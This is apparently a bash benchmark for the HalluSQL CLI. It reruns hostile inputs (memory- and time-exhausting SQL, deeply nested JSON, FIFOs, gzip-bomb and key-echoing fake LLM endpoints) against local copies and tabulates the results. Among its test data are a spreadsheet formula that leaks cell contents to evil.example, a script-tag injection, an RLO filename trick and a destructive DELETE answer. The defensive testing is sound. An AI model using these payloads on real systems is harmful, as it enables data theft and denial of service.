#!/usr/bin/env bash
# Reruns every hostile command of issue 16 ("Limits that hold") and issue 29 ("Outputs that never
# destroy inputs") against COPIES of a Spider
# database, a fake LLM endpoint (tests/support/fake_llm) and small hostile files, and prints a
# Markdown table: time, peak memory (/usr/bin/time -v), exit code and message now, next to what
# the issue measured before. It then checks that nothing was changed or left behind: the sha256
# of every input file before and after, the listing of the work folder, the private temporary
# folder the CLI was given (TMPDIR) and SQLite/HalluSQL temporaries in /tmp.
# usage: tests/bench/hostile_table.sh BUILD_DIR      (a few minutes; limits are kept small)
set -uo pipefail
build=${1:?usage: hostile_table.sh BUILD_DIR}
cli=$(cd "$build" && pwd)/app/cli/hallusql-cli
root=$(cd "$(dirname "$0")/../.." && pwd)
data=${HALLUSQL_SHARED_DATA:-$root/../shared/data}
src=$data/spider/database/concert_singer/concert_singer.sqlite
if [[ ! -f $src ]]; then
  echo "shared data not found at $data (set HALLUSQL_SHARED_DATA); skipping" >&2
  exit 0
fi
work=$(mktemp -d)
fake_pid=
cleanup() {
  [[ -n $fake_pid ]] && kill "$fake_pid" 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT
mkdir -p "$work/dbroot/concert_singer" "$work/tmp" "$work/in" "$work/meta"
export TMPDIR=$work/tmp
cp "$src" "$work/dbroot/concert_singer/concert_singer.sqlite"
chmod u+w "$work/dbroot/concert_singer/concert_singer.sqlite"
DB=$work/dbroot/concert_singer/concert_singer.sqlite
ROWS=$work/meta/rows.tsv
: >"$ROWS"

# --- inputs --------------------------------------------------------------------------------------
terms() {  # terms N TEXT SEP
  local n=$1 text=$2 sep=$3 out="" i
  for ((i = 0; i < n; ++i)); do out+="${out:+$sep}$text"; done
  printf '%s' "$out"
}
RB40="SELECT $(terms 40 'length(randomblob(250000000))' '+')"
RB100="SELECT $(terms 100 'length(randomblob(250000000))' ', ')"
RB60="SELECT $(terms 60 'length(randomblob(250000000))' '+')"
CTE="WITH a0(x) AS (SELECT 1)"
for ((i = 1; i <= 21; ++i)); do CTE+=", a$i(x) AS (SELECT x FROM a$((i - 1)) UNION ALL SELECT x FROM a$((i - 1)))"; done
CTE+=" SELECT 1 FROM a21 LIMIT 1"
TWELVE="(VALUES (1),(2),(3),(4),(5),(6),(7),(8),(9),(10),(11),(12))"
python3 - "$work/in" <<'PY'
import json, os, random, sys
d = sys.argv[1]
def w(name, data):
    with open(os.path.join(d, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
case = lambda pred: json.dumps({"db_id": "concert_singer", "question": "q", "gold_sql": "SELECT 1", "pred_sql": pred}) + "\n"
w("in_list.jsonl", case("SELECT 1 FROM singer WHERE age IN (" + ",".join(str(i) for i in range(200000)) + ")"))
w("and_chain.jsonl", case("SELECT 1 FROM singer WHERE " + " AND ".join(["age > 1"] * 100000)))
w("chain_plus.sql", "SELECT 1" + "+1" * 40000)  # 80 KB: also passed as one argument (< 128 KB)
w("chain_and.sql", "SELECT 1 WHERE 1" + " AND 1" * 40000)
w("chain_union.sql", "SELECT 1" + " UNION SELECT 1" * 40000)
w("chain_concat.sql", "SELECT 'a'" + "||'a'" * 40000)
deep = 50000
w("drilldown_deep.json", '[{"path": [{"question": "q", "db_id": "concert_singer", "SQL": "SELECT 1", "predicted_query": "SELECT 1", "hallucination": ' + "[" * deep + "]" * deep + "}]}]")
w("long_line.sql", b"SELECT " + b"1" * 40_000_000 + b"\n")
w("bom.sql", "\ufeffSELECT 1\n")
w("nul.sql", b"SELECT 1\x00 + 2\n")
w("types.jsonl", '{"db_id": 7, "question": "q", "gold_sql": "SELECT 1"}\n{"db_id": "concert_singer", "question": "q", "gold_sql": 12.5}\n')
w("rejected.jsonl", case("SELECT 1") + '{"db_id": 7, "gold_sql": "SELECT 1"}\n')
w("ok.jsonl", case("SELECT count(*) FROM singer"))
rnd = random.Random(16)
w("random.json", bytes(rnd.getrandbits(8) for _ in range(2_000_000)))
PY
python3 - "$work/in" <<'PY'
import json, os, sys
d = sys.argv[1]
def case(**kw):
    base = {"db_id": "concert_singer", "question": "q", "gold_sql": "SELECT 1", "pred_sql": "SELECT 1"}
    base.update(kw)
    return json.dumps(base) + "\n"
with open(os.path.join(d, "line_200mb.jsonl"), "w") as f:  # one record with a 200 MB SQL text
    f.write(case(pred_sql="SELECT count(*) FROM singer WHERE name = '" + "x" * 200_000_000 + "'"))
with open(os.path.join(d, "rows_1m.jsonl"), "w") as f:
    for i in range(1_000_000):
        a = i % 90
        f.write(case(question=f"How many singers are older than {a}?",
                     gold_sql=f"SELECT count(*) FROM singer WHERE age > {a}",
                     pred_sql=f"SELECT count(*) FROM singer WHERE age >= {a}"))
cte = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000000000) "
with open(os.path.join(d, "slow_case.jsonl"), "w") as f:  # slow gold, slow prediction, cause repairs
    f.write(case(gold_sql="SELECT count(*) FROM singer WHERE age > 30",
                 pred_sql=cte + "SELECT count(*) FROM n, singer WHERE singer.age > 20"))
with open(os.path.join(d, "decompose_slow.jsonl"), "w") as f:
    joins = ", ".join(f"singer AS s{k}" for k in range(12))
    f.write(case(gold_sql=f"SELECT count(*) FROM {joins} WHERE s0.age > 20 AND s1.age > 20 AND s2.age > 20"))
with open(os.path.join(d, "formula.jsonl"), "w") as f:
    f.write(case(id="f:1", question='=HYPERLINK("http://evil.example/?"&A1,"click")',
                 gold_sql="SELECT count(*) FROM singer", pred_sql="SELECT count(*) FROM singer WHERE age > 1"))
    f.write(case(id="f:2", question="How many\u0000 singers \u202egnp.exe?",  # wrong: in the report
                 gold_sql="SELECT count(*) FROM singer", pred_sql="SELECT count(*) FROM singer WHERE age > 30"))
def annotation(**kw):
    base = {"format": "hallusql-annotations", "version": 1, "run": "formula", "case_key": "f:1", "taxonomy": "", "category": "", "subcategory": "",
            "reviewer": "eve", "verdict": "incorrect", "note": "", "created_at": "2026-01-01T00:00:00Z"}
    base.update(kw)
    return json.dumps(base) + "\n"
for name, kw in {"note_10mb": {"note": "n" * 10_000_000}, "unknown_run": {"run": "ghost"},
                 "free_verdict": {"verdict": "<script>pwned</script>"}, "nul_note": {"note": "fine\u0000; DROP"}}.items():
    with open(os.path.join(d, name + ".jsonl"), "w") as f:
        f.write(annotation(**kw))
PY
mkfifo "$work/in/fifo"
cp "$DB" "$work/wal.sqlite" && python3 -c "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('PRAGMA journal_mode=WAL'); c.close()" "$work/wal.sqlite"
cp "$DB" "$work/hot.sqlite" && printf 'hot journal bytes %.0s' {1..64} >"$work/hot.sqlite-journal"
: >"$work/empty.hallusql"
"$cli" workspace --create "$work/newer.hallusql" >/dev/null && python3 -c "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('PRAGMA user_version=99'); c.close()" "$work/newer.hallusql"
"$cli" workspace --create "$work/trigger.hallusql" >/dev/null && python3 -c "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('CREATE TRIGGER wipe AFTER INSERT ON llm_calls BEGIN DELETE FROM llm_calls; END'); c.close()" "$work/trigger.hallusql"
rm -f "$work"/*.hallusql-wal "$work"/*.hallusql-shm

# --- the fake endpoint ---------------------------------------------------------------------------
coproc FAKE { exec python3 "$root/tests/support/fake_llm/fake_llm_server.py" --idle-exit 900; }
fake_pid=$FAKE_PID
read -r line <&"${FAKE[0]}"
port=${line//[^0-9]/}
URL=http://127.0.0.1:$port/v1
fake() {
  echo "$1" >&"${FAKE[1]}"
  local reply
  read -r reply <&"${FAKE[0]}"
}
LLM=(--base-url "$URL" --model fake-model --max-retries 1)
Q=(--db "$DB" --question "How many singers are there?")

W0=$work/demo/demo.hallusql
"$cli" demo --dir "$work/demo" --out "$work/meta/demo.json" >/dev/null
rm -f "$work"/demo/*-wal "$work"/demo/*-shm
# A database whose writer died: its -wal and -shm are left beside it (copied while a connection
# holds them, as a crash leaves them).
python3 -c "
import os, shutil, sqlite3, sys
d = sys.argv[1]
c = sqlite3.connect(os.path.join(d, 'meta', 'src.sqlite'), isolation_level=None)
c.execute('PRAGMA journal_mode=WAL'); c.execute('PRAGMA wal_autocheckpoint=0')
c.execute('CREATE TABLE t(a)'); c.execute('INSERT INTO t VALUES (1),(2),(3)')
for s in ('', '-wal', '-shm'):
    shutil.copy2(os.path.join(d, 'meta', 'src.sqlite' + s), os.path.join(d, 'crash.sqlite' + s))
os._exit(0)" "$work"
ln -s "$W0" "$work/link.hallusql" 2>/dev/null || true

# --- what must not change ------------------------------------------------------------------------
snapshot() {  # the script's own files live in meta/; out* and ws-out* are outputs of the commands
  (cd "$work" && find . \( -path ./tmp -o -path ./meta \) -prune -o -type f -print | grep -v '^./out' |
    grep -v '^./ws-out' | sort | xargs -d '\n' sha256sum)
  ls -la "$work" | awk '{print $1, $NF}' | grep -v ' out' | grep -v ' ws-out'
}
snapshot >"$work/meta/before.txt"
ls /tmp | grep -E '^(etilqs_|hallusql-mr-|sqlite-temp)' | sort >"$work/meta/tmp-before.txt"

# --- one row -------------------------------------------------------------------------------------
# row NAME BEFORE LIMIT_SECONDS CMD...   (stdout of the command goes to $work/meta/out.txt)
row() {
  local name=$1 before=$2 limit=$3
  shift 3
  /usr/bin/time -v -o "$work/meta/time.txt" timeout -s KILL "$limit" "$@" >"$work/meta/out.txt" 2>"$work/meta/err.txt" </dev/null
  local rc=$?
  python3 - "$name" "$before" "$rc" "$work" >>"$ROWS" <<'PY'
import json, os, re, sys
name, before, rc, work = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
t = open(os.path.join(work, "meta", "time.txt"), errors="replace").read()
m = re.search(r"Elapsed \(wall clock\) time \(h:mm:ss or m:ss\): (?:(\d+):)?(\d+):([\d.]+)", t)
secs = (int(m.group(1) or 0) * 3600 + int(m.group(2)) * 60 + float(m.group(3))) if m else -1
mem = re.search(r"Maximum resident set size \(kbytes\): (\d+)", t)
mb = int(mem.group(1)) / 1024 if mem else -1
err = open(os.path.join(work, "meta", "err.txt"), errors="replace").read()
out_path = os.path.join(work, "meta", "out.txt")
out_size = os.path.getsize(out_path)
out = open(out_path, errors="replace").read(4000)
msg = ""
for line in err.splitlines():  # a summary of rejected records or warnings says most
    if re.search(r"reject|warning", line, re.I) and not line.startswith("{"):
        msg = line.strip()
        break
for text in (err, out) if not msg else ():
    for line in text.splitlines():
        try:
            j = json.loads(line)
        except ValueError:
            continue
        e = j.get("error") if isinstance(j, dict) else None
        if not isinstance(e, dict) and isinstance(j, dict):
            e = j.get("warning")  # a warning line, e.g. rejected records
        if isinstance(e, dict):
            msg = f'{e.get("code")}: {e.get("message")}'
            break
        if isinstance(j, dict) and isinstance(j.get("warnings"), list) and j["warnings"] and not msg:
            msg = f'{len(j["warnings"])} warning(s): {str(j["warnings"][0])[:80]}'
    if msg:
        break
if not msg:
    msg = (err.strip().splitlines() or out.strip().splitlines() or [""])[0]
if rc == 137:
    msg = "KILLED at the script's ceiling (hang) " + msg
msg = msg.replace("|", "\\|").replace("\n", " ")
if len(msg) > 160:
    msg = msg[:157] + "..."
extra = f" (stdout {out_size / 1e6:.1f} MB)" if out_size > 1_000_000 else ""
print(f"{name}\t{before}\t{secs:.2f} s\t{mb:.0f} MB\t{rc}\t{msg}{extra}")
PY
}

# --- time, memory and size limits ----------------------------------------------------------------
row "query: length(randomblob(250 MB)) x40, --timeout-ms 1000" "27 s, 1.96 GB, exit 0" 60 \
  "$cli" query --db "$DB" --timeout-ms 1000 --sql "$RB40"
row "query: the same, 30 MB blobs (under the value limit), --timeout-ms 1000" "(new)" 60 \
  "$cli" query --db "$DB" --timeout-ms 1000 --sql "SELECT $(terms 40 'length(randomblob(30000000))' '+')"
row "query: randomblob x100 columns, default limits" "65 s, exit 0" 60 "$cli" query --db "$DB" --sql "$RB100"
row "query: 22-CTE chain, --timeout-ms 500" "25 s (prepare), 4.5 GB, exit 0" 60 \
  "$cli" query --db "$DB" --timeout-ms 500 --sql "$CTE"
row "query: count(DISTINCT randomblob(200 MB)) over 12 rows, --timeout-ms 2000" "20 s, 2.2 GB temp files, exit 0" 60 \
  "$cli" query --db "$DB" --timeout-ms 2000 --sql "SELECT count(DISTINCT randomblob(200000000)) FROM $TWELVE"
row "query: count(DISTINCT randomblob(30 MB)) over 12 rows, --timeout-ms 500" "(new)" 60 \
  "$cli" query --db "$DB" --timeout-ms 500 --sql "SELECT count(DISTINCT randomblob(30000000)) FROM $TWELVE"
row "query: SELECT randomblob(250000000)" "1.4 GB, 500 MB on stdout" 60 \
  "$cli" query --db "$DB" --sql "SELECT randomblob(250000000)"
row "query: SELECT randomblob(30000000) (hex of 60 MB), --max-output-mb 8" "(new)" 60 \
  "$cli" query --db "$DB" --max-output-mb 8 --sql "SELECT randomblob(30000000)"
row "query: printf('%.*c', 1e9, 'x')" "4.8 s, exit 0" 60 "$cli" query --db "$DB" --sql "SELECT printf('%.*c', 1e9, 'x')"
row "query: instr(32 MB, 16 MB needle)" "(new: N*M in SQLite)" 60 \
  "$cli" query --db "$DB" --timeout-ms 2000 --sql "SELECT instr(hex(zeroblob(16000000)), hex(zeroblob(8000000)) || '1')"
row "query: 32 MB LIKE '%' || 200 x '0' || '1'" "(new: N*M in SQLite)" 60 \
  "$cli" query --db "$DB" --timeout-ms 2000 --sql "SELECT hex(zeroblob(16000000)) LIKE '%' || hex(zeroblob(100)) || '1'"
row "query: SELECT * FROM pragma_hard_heap_limit" "\"cannot read the database\"" 30 \
  "$cli" query --db "$DB" --sql "SELECT * FROM pragma_hard_heap_limit"
fake "{\"cmd\":\"default\",\"behavior\":{\"content\":\"\`\`\`sql\\n$RB60\\n\`\`\`\"}}"
row "detect: a model reply of 60 randomblob terms" "115 s under a 10 s limit" 120 \
  "$cli" detect "${Q[@]}" --sql "SELECT count(*) FROM singer" "${LLM[@]}"
fake '{"cmd":"reset"}'
row "evaluate --annotate rules: IN list of 200,000 items" "100 s, 775 MB" 120 \
  "$cli" evaluate --cases "$work/in/in_list.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl"
row "evaluate --annotate rules: AND chain of 100,000 terms" "48 s" 120 \
  "$cli" evaluate --cases "$work/in/and_chain.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl"

# --- crashes -------------------------------------------------------------------------------------
for f in plus and union concat; do
  row "parse --tree: 40,000-term chain ($f)" "crash (stack overflow)" 60 \
    "$cli" parse --tree --file "$work/in/chain_$f.sql"
done
row "plan: 40,000-term + chain" "crash (stack overflow)" 60 "$cli" plan --db "$DB" --sql "$(cat "$work/in/chain_plus.sql")"
row "diff: 40,000-term + chain" "crash (stack overflow)" 60 \
  "$cli" diff --gold "$(cat "$work/in/chain_plus.sql")" --pred "SELECT 1"
row "evaluate: drill-down JSON with 50,000 nested [" "crash (stack overflow)" 60 \
  "$cli" evaluate --cases "$work/in/drilldown_deep.json" --db-root "$work/dbroot" --out "$work/out.jsonl"
row "parse --file: one 40 MB line" "abort (bad_alloc)" 60 "$cli" parse --file "$work/in/long_line.sql"
fake '{"cmd":"default","behavior":{"mode":"endless"}}'
row "generate: endless chunked body" "abort" 60 "$cli" generate "${Q[@]}" "${LLM[@]}" --timeout-ms 20000
fake '{"cmd":"default","behavior":{"mode":"gzip_bomb","bomb_mb":512}}'
row "generate: gzip bomb (512 MB of zeros)" "abort" 60 "$cli" generate "${Q[@]}" "${LLM[@]}" --timeout-ms 20000
fake '{"cmd":"default","behavior":{"mode":"deep","deep_levels":50000}}'
row "generate: reply JSON with 50,000 nested [" "(new)" 60 "$cli" generate "${Q[@]}" "${LLM[@]}"

# --- hangs ---------------------------------------------------------------------------------------
row "evaluate --cases FIFO" "hangs forever" 20 "$cli" evaluate --cases "$work/in/fifo" --db-root "$work/dbroot" --out "$work/out.jsonl"
row "parse --file FIFO" "hangs forever" 20 "$cli" parse --file "$work/in/fifo"
row "workspace --info FIFO" "hangs forever" 20 "$cli" workspace --info "$work/in/fifo"
row "query --db FIFO" "hangs forever" 20 "$cli" query --db "$work/in/fifo" --sql "SELECT 1"
fake '{"cmd":"default","behavior":{"mode":"silent"}}'
row "generate: silent endpoint, --timeout-ms 3000" "483 s (4 x 120 s, no overall deadline)" 60 \
  "$cli" generate "${Q[@]}" --base-url "$URL" --model fake-model --timeout-ms 3000
fake '{"cmd":"default","behavior":{"status":429,"retry_after":"100000"}}'
row "generate: Retry-After 100000, --timeout-ms 3000" "60 s per retry" 60 \
  "$cli" generate "${Q[@]}" --base-url "$URL" --model fake-model --timeout-ms 3000
fake '{"cmd":"reset"}'

# --- read-only -----------------------------------------------------------------------------------
row "generate --cache = the --db file" "database turned to WAL, llm_calls added" 60 \
  "$cli" generate "${Q[@]}" "${LLM[@]}" --cache "$DB"
row "generate --cache = a newer-version workspace" "written" 60 \
  "$cli" generate "${Q[@]}" "${LLM[@]}" --cache "$work/newer.hallusql"
row "generate --cache = a workspace with a trigger" "trigger ran (deleted every llm_calls row)" 60 \
  "$cli" generate "${Q[@]}" "${LLM[@]}" --cache "$work/trigger.hallusql"
row "query a WAL-mode database" "-wal and -shm left beside it" 30 \
  "$cli" query --db "$work/wal.sqlite" --sql "SELECT count(*) FROM singer"
row "workspace --info on an empty file" "turned into a workspace" 30 "$cli" workspace --info "$work/empty.hallusql"
fake '{"cmd":"default","behavior":{"content":"SELECT 1; -- your key is {key}"}}'
row "generate: endpoint echoes the API key" "key stored in the cache and printed" 60 \
  env HS_TEST_KEY=sk-hostile-0123456789 "$cli" generate "${Q[@]}" "${LLM[@]}" --api-key-env HS_TEST_KEY \
  --cache "$work/ws-out.hallusql"
if grep -q "sk-hostile-0123456789" "$work/meta/out.txt" "$work/meta/err.txt" "$work/ws-out.hallusql" 2>/dev/null; then
  echo -e "  the echoed key\tstored and printed\t-\t-\t-\tKEY FOUND in the output or the cache" >>"$ROWS"
else
  echo -e "  the echoed key\tstored and printed\t-\t-\t-\tnot in the output nor in the cache (masked)" >>"$ROWS"
fi
fake '{"cmd":"default","behavior":{"content":"SELECT count(*) FROM singer","latency_ms":4000}}'
# A killed detect: its private copies must go (the next start removes a dead process's folder).
"$cli" detect "${Q[@]}" --sql "SELECT count(*) FROM singer" "${LLM[@]}" >/dev/null 2>&1 &
detect_pid=$!
sleep 2
kill -9 "$detect_pid" 2>/dev/null
wait "$detect_pid" 2>/dev/null
left_dirs=$(find "$TMPDIR" -mindepth 2 -maxdepth 2 -name "run-$detect_pid" | wc -l)
left_mode=$(find "$TMPDIR" -mindepth 1 -maxdepth 1 -type d -printf '%m ' 2>/dev/null)
row "after a killed detect (kill -9), the next start" "copies left in /tmp, world-readable" 30 \
  "$cli" query --db "$DB" --sql "SELECT 1"
after_dirs=$(find "$TMPDIR" -mindepth 2 -maxdepth 2 -name "run-$detect_pid" | wc -l)
echo -e "  killed detect's private folder\tleft forever\t-\t-\t-\tleft by the kill: $left_dirs, after the next start: $after_dirs; private folder mode: ${left_mode:-none}" >>"$ROWS"
fake '{"cmd":"reset"}'

# --- unclear answers -----------------------------------------------------------------------------
row "evaluate --cases DIR" "\"cannot tell the format\"" 30 "$cli" evaluate --cases "$work/in" --db-root "$work/dbroot" --out "$work/out.jsonl"
row "parse --file DIR" "exit 0, no output" 30 "$cli" parse --file "$work/in"
row "parse --file with a BOM" "\"unexpected 'SELECT'\"" 30 "$cli" parse --file "$work/in/bom.sql"
row "parse --file with a NUL byte" "\"unexpected end of input\"" 30 "$cli" parse --file "$work/in/nul.sql"
row "evaluate: db_id 7, gold_sql 12.5" "silently coerced" 30 "$cli" evaluate --cases "$work/in/types.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl"
row "evaluate: a rejected record" "exit 0, silent" 30 "$cli" evaluate --cases "$work/in/rejected.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl"
row "evaluate: missing --db-root" "accepted" 30 "$cli" evaluate --cases "$work/in/ok.jsonl" --db-root "$work/no-such-dir" --out "$work/out.jsonl"
row "evaluate --format spider: 2 MB of random bytes" "accepted, 704,664 warnings" 60 \
  "$cli" evaluate --cases "$work/in/random.json" --format spider --db-root "$work/dbroot" --out "$work/out.jsonl"
row "query a database with a hot journal" "reported as \"WAL mode\"" 30 "$cli" query --db "$work/hot.sqlite" --sql "SELECT 1"
fake '{"cmd":"default","behavior":{"content":""}}'
row "generate: empty model answer" "exit 0, sql: null" 60 "$cli" generate "${Q[@]}" "${LLM[@]}"
fake '{"cmd":"default","behavior":{"content":"```sql\nWITH x AS (SELECT 1) DELETE FROM singer\n```"}}'
row "generate: a WITH ... DELETE answer" "emitted as its SQL, no warning" 60 "$cli" generate "${Q[@]}" "${LLM[@]}"

# --- outputs that are inputs (issue 29) ----------------------------------------------------------
# W is a demo workspace (a run of 12 evaluated cases), U a user's database; every command below
# must refuse with exit 2 and leave both byte-identical (the snapshot below checks it).
W=$work/demo/demo.hallusql
U=$DB
EV=(evaluate --cases "$work/in/ok.jsonl" --db-root "$work/dbroot")
for f in html csv jsonl; do
  row "report --format $f --out W (the workspace it reads)" "workspace replaced, exit 0" 30 \
    "$cli" report --workspace "$W" --format "$f" --out "$W"
done
row "evaluate --summary W" "workspace replaced, exit 0" 30 "$cli" "${EV[@]}" --out "$work/out.jsonl" --summary "$W"
row "drilldown stats --csv W" "workspace replaced, exit 0" 30 \
  "$cli" drilldown stats --workspace "$W" --run 1 --csv "$W"
row "evaluate --out W" "workspace replaced, exit 0" 30 "$cli" "${EV[@]}" --out "$W"
row "annotations export --out W" "workspace emptied" 30 \
  "$cli" annotations export --workspace "$W" --reviewer ann --out "$W"
row "evaluate --out a user's SQLite database" "database overwritten, exit 0" 30 "$cli" "${EV[@]}" --out "$U"
row "evaluate --out = --cases" "input replaced" 30 "$cli" "${EV[@]}" --out "$work/in/ok.jsonl"
ln -s "$W" "$work/meta/link.hallusql"
row "report --out a symbolic link to W" "(new)" 30 "$cli" report --workspace "$W" --out "$work/meta/link.hallusql"
printf 'old output\n' >"$work/out-full.jsonl"
row "evaluate --out F on a full disk (ulimit -f 1)" "0-byte or cut file" 30 \
  bash -c "trap '' XFSZ; ulimit -f 1; exec \"\$0\" \"\$@\"" "$cli" evaluate --cases "$work/in/ok.jsonl" \
  --db-root "$work/dbroot" --out "$work/out-full.jsonl"
echo -e "  the old --out file after the full disk\t-\t-\t-\t-\t$(cat "$work/out-full.jsonl" | head -c 40)" >>"$ROWS"
row "query a database a crashed writer left with -wal and -shm" "-shm rewritten" 30 \
  "$cli" query --db "$work/crash.sqlite" --sql "SELECT count(*) FROM t"
row "evaluate --workspace = a symbolic link to W" "link followed, target written" 30 \
  "$cli" "${EV[@]}" --out "$work/out.jsonl" --workspace "$work/link.hallusql" --run-name x
"$cli" workspace --create "$work/ws-out-mode.hallusql" >/dev/null
"$cli" report --workspace "$W" --format html --out "$work/out-report.html" >/dev/null
echo -e "  mode of a new workspace, and of a report\t0644\t-\t-\t-\t$(stat -c %a "$work/ws-out-mode.hallusql") and $(stat -c %a "$work/out-report.html")" >>"$ROWS"
# imports, time limits, CSV and HTML (issue 29)
row "evaluate: one 200 MB JSONL line" "73 s, 1.16 GB" 120 \
  "$cli" evaluate --cases "$work/in/line_200mb.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl"
row "evaluate: 1,000,000 JSONL rows (196 MB)" "103 s, 1.87 GB" 900 \
  "$cli" evaluate --cases "$work/in/rows_1m.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl" --quiet
row "evaluate --timeout-ms 1000: a case with a slow prediction and cause repairs" "3-5 s (a limit per statement)" 60 \
  "$cli" evaluate --cases "$work/in/slow_case.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl" --timeout-ms 1000 --quiet
row "drilldown decompose --timeout-ms 1000: a 12-way join" "no --timeout-ms (5 x 10 s)" 120 \
  "$cli" drilldown decompose --cases "$work/in/decompose_slow.jsonl" --db-root "$work/dbroot" \
  --out "$work/out.jsonl" --timeout-ms 1000
WF=$work/ws-out-formula.hallusql
"$cli" evaluate --cases "$work/in/formula.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl" \
  --workspace "$WF" --run-name formula --quiet >/dev/null 2>&1
"$cli" report --workspace "$WF" --format csv --out "$work/out-formula.csv" >/dev/null 2>&1
live=$(grep -c '"=HYPERLINK' "$work/out-formula.csv")
inert=$(grep -c "\"'=HYPERLINK" "$work/out-formula.csv")
echo -e "  CSV export of a question =HYPERLINK(...)\tformula live in the cell\t-\t-\t-\tcells with a live formula: $live, neutralised with a quote: $inert" >>"$ROWS"
"$cli" report --workspace "$WF" --format html --out "$work/out-formula.html" >/dev/null 2>&1
echo -e "  HTML report of a question with NUL and U+202E\tNUL and RLO in the page\t-\t-\t-\tNUL bytes: $(tr -cd '\000' <"$work/out-formula.html" | wc -c), raw U+202E: $(grep -c $'\u202e' "$work/out-formula.html"), shown as: $(grep -o '&lt;U+202E&gt;' "$work/out-formula.html" | head -1)" >>"$ROWS"
for f in note_10mb unknown_run free_verdict nul_note; do
  row "annotations import: $f" "accepted" 30 "$cli" annotations import --workspace "$WF" --in "$work/in/$f.jsonl"
done
# A PDF export killed while Chromium prints (a stand-in that never ends): nothing may outlive it.
printf '#!/bin/sh\nwhile :; do sleep 0.1; done\n' >"$work/meta/slow-chromium"
chmod +x "$work/meta/slow-chromium"
HALLUSQL_CHROMIUM=$work/meta/slow-chromium "$cli" report --workspace "$W" --format pdf --out "$work/out.pdf" \
  >/dev/null 2>&1 &
pdf_pid=$!
sleep 2
kill -9 "$pdf_pid" 2>/dev/null
wait "$pdf_pid" 2>/dev/null
sleep 1
orphans=$(pgrep -f -- "$work/meta/slow-chromium" | wc -l)
left_report=$(find "$TMPDIR" -path "*run-$pdf_pid*" -name 'report.html' | wc -l)
"$cli" workspace --info "$W" >/dev/null 2>&1
after_report=$(find "$TMPDIR" -path "*run-$pdf_pid*" | wc -l)
echo -e "  PDF export killed (kill -9) while printing\tChromium orphaned, report left in /tmp\t-\t-\t-\tChromium processes left: $orphans; report copies left by the kill: $left_report, after the next start: $after_report; /tmp/hallusql-report-*: $(ls -d /tmp/hallusql-report-* 2>/dev/null | wc -l)" >>"$ROWS"
pkill -f -- "$work/meta/slow-chromium" 2>/dev/null

# --- nothing changed or left behind --------------------------------------------------------------
rm -f "$work"/out* "$work"/ws-out*
snapshot >"$work/meta/after.txt"
ls /tmp | grep -E '^(etilqs_|hallusql-mr-|sqlite-temp)' | sort >"$work/meta/tmp-after.txt"
tmp_left=$(find "$TMPDIR" -mindepth 1 -type f | wc -l)

echo "HalluSQL hostile inputs (issues 16 and 29), $(date -u +%Y-%m-%dT%H:%MZ), load $(cut -d' ' -f1-3 /proc/loadavg), $(nproc) cores"
echo
echo "| command | before (issue 16 or 29) | time | peak RSS | exit | message now |"
echo "|---|---|---:|---:|---:|---|"
while IFS=$'\t' read -r name before secs mb rc msg; do
  echo "| $name | $before | $secs | $mb | $rc | $msg |"
done <"$ROWS"
echo
if diff -u "$work/meta/before.txt" "$work/meta/after.txt" >"$work/meta/diff.txt"; then
  echo "Files: every input file is byte-identical (sha256) and the work folder lists the same files."
else
  echo "Files CHANGED or left behind:"
  sed 's/^/    /' "$work/meta/diff.txt"
fi
if diff -q "$work/meta/tmp-before.txt" "$work/meta/tmp-after.txt" >/dev/null; then
  echo "/tmp: no new etilqs_*, hallusql-mr-* or sqlite-temp* files."
else
  echo "/tmp: new files: $(comm -13 "$work/meta/tmp-before.txt" "$work/meta/tmp-after.txt" | tr '\n' ' ')"
fi
echo "TMPDIR given to the CLI: $tmp_left file(s) left."
